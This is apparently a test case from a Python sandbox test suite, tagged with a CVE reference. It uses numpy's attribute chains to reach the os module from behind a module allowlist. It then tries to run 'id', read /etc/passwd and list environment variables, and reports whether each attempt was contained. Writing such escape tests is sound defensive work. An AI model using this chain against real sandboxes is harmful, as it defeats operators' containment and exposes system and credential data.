# /// case
# technique = "import-tricks"
# analysis = ["dynamic-attribute", "module-leak"]
# without_analysis = "contained"
# reference = "CVE-2026-27952"
# ///
# An array library on the list of allowed modules, with the interpreter's mirror inside.
import numpy
found = None
for path in ("ma.core.inspect.sys", "lib.format.sys", "f2py.os", "testing.os"):
    value = numpy
    for name in path.split("."):
        value = getattr(value, name, None)
    if value is not None:
        found = found or getattr(value, "modules", {}).get("os") or value
if found is None:
    found = numpy.ma.core.inspect.sys.modules["os"]

def probe(os):
    actions = (
        lambda: os.popen("id").read(),
        lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 64).decode(),
        lambda: " ".join(key for key in os.environ if key.startswith(("CARGO", "CANARY"))),
    )
    for action in actions:
        try:
            text = action()
        except BaseException as error:
            print("contained", type(error).__name__)
            continue
        print("ESCAPED " + text[:40] if text.strip() else "contained, empty")

probe(found)
